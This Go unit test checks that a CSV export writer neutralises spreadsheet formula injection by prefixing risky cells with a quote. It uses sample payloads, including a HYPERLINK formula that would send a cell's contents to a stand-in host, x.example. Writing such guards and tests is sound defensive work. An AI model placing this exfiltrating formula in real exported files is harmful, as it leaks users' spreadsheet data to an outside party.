package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestEveryCSVCellIsGuarded: whatever a CSV row holds (a member's note, an
// imported checklist's label or source, a number), a cell a spreadsheet would
// run as a formula leaves with a quote before it; plain numbers stay numbers.
func TestEveryCSVCellIsGuarded(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://x.example/?d="&A1,"Open")`: `'=HYPERLINK("http://x.example/?d="&A1,"Open")`,
		"+1+cmd":   "'+1+cmd",
		"@SUM(A1)": "'@SUM(A1)",
		"-2+A1":    "'-2+A1",
		"-Inf":     "'-Inf",
		"\tx":      "'\tx",
		"-4.5":     "-4.5",
		"12":       "12",
		"0.25":     "0.25",
		"-":        "'-",
		"Камера":   "Камера",
		"":         "",
	}
	var in []string
	for c := range cells {
		in = append(in, c)
	}
	var buf bytes.Buffer
	w := &sheetWriter{csv.NewWriter(&buf)}
	if err := w.Write(append([]string(nil), in...)); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	out, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range in {
		if out[i] != cells[c] {
			t.Errorf("cell %q written as %q; want %q", c, out[i], cells[c])
		}
	}
}
